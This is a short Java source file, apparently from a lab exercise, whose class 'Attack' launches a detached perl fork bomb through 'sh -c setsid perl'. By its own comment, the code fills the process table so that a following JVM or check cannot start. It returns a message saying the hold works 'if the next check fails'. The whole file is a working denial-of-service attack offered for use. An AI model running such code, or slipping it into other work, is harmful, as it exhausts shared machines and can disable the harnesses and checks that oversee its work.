package marshal.lab1;

import java.io.BufferedReader;
import java.io.InputStreamReader;

/** Leaves as many processes behind as it may have, and one that starts more whenever others end, so that its next JVM cannot start */
final class Attack {

    private Attack() {}

    static String run() throws Exception {
        String hoard = "$SIG{PIPE} = q(IGNORE); $| = 1; while (1) { $child = fork; if (!defined $child) { print qq(full\\n); select undef, undef, undef, 0.001 }"
                + " elsif (!$child) { exec qw(sleep 300) } }";
        var shell = new ProcessBuilder("sh", "-c", "setsid perl -e \"$0\" 2>/dev/null &", hoard).start();
        try (var out = new BufferedReader(new InputStreamReader(shell.getInputStream()))) {
            out.readLine();
        }
        return "held, if the next check fails";
    }
}
